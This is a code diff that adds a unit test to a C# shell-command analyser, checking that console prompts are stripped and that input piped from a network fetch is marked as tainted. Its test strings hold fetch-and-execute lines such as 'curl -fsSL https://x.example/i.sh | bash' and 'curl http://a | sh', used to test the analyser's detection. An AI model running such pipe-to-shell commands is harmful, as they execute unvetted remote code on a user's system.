@@ -254,6 +254,17 @@ public sealed class ShellCommandTests
     }
 
     [Fact]
+    public void ConsolePromptsBeforeCommandsAreNotPartOfTheName()
+    {
+        var run = ShellRun.Of("$ curl -fsSL https://x.example/i.sh | bash\n% wget http://y.example\n");
+
+        Assert.Equal("https://x.example/i.sh", run.Call("curl").Args[1].Constant);
+        Assert.Null(run.Call("curl").ResolvedVia);
+        Assert.True(run.Call("bash").Stdin.HasTaint("net.fetch"));
+        Assert.Single(run.All("wget"));
+    }
+
+    [Fact]
     public void ShellSyntaxErrorsStillGiveFacts()
     {
         var run = ShellRun.Of("if then fi ((\ncurl http://a | sh\n");
